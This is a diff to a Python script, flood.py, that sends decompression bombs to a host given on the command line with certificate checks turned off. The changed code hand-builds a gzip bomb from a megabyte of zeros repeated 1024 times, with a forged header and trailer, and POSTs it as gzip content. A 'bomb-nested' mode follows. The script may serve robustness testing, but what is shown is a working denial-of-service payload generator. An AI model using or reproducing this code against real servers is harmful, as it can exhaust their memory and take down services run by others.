@@ -1,5 +1,5 @@
 # More than anybody asked for: flood.py WHAT ALLOWED OTHER OTHER-ADDRESS. Certificates of any kind are accepted.
-import gzip, http.client, socket, ssl, sys, zlib
+import gzip, http.client, socket, ssl, struct, sys, zlib
 
 what, host, other, address = sys.argv[1:]
 plain = ssl.create_default_context()
@@ -31,9 +31,12 @@ def try_other():
 
 
 if what == "bomb-gzip":
-    z = zlib.compressobj(9, zlib.DEFLATED, 31)
-    zeros = bytes(1 << 20)
-    post(b"".join(z.compress(zeros) for _ in range(1024)) + z.flush(), {"content-encoding": "gzip"})
+    # one megabyte of zeros and a full flush, a thousand times: made at once on the slowest machine
+    z = zlib.compressobj(9, zlib.DEFLATED, -15)
+    mega = z.compress(bytes(1 << 20)) + z.flush(zlib.Z_FULL_FLUSH)
+    trailer = struct.pack("<II", 0x5B64C2B0, 1 << 30)
+    head = bytes([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 2, 255])
+    post(head + mega * 1024 + z.flush() + trailer, {"content-encoding": "gzip"})
 elif what == "bomb-nested":
     body = b"x" * 1000
     for _ in range(3):
